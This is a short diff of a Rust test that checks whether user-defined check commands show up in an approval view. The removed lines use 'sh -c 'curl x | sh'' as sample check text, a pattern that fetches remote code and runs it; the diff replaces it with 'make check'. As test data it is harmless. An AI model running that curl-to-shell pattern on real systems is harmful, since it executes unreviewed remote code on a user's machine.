@@ -17,9 +17,9 @@ fn more(check: &str) -> RequestFile {
 #[test]
 fn own_checks_are_shown_wherever_somebody_decides() {
     let world = World::up(&[("a.txt", "a\n")]);
-    let asked = world.ask(&more("test -s more.txt && sh -c 'curl x | sh'"));
+    let asked = world.ask(&more("test -s more.txt && make check"));
     let shown = world.json(&["approval", "show", &asked.approval]);
-    let own = json!(["test -s more.txt && sh -c 'curl x | sh'"]);
+    let own = json!(["test -s more.txt && make check"]);
     assert_eq!(shown["checks"], own);
     assert_eq!(
         [
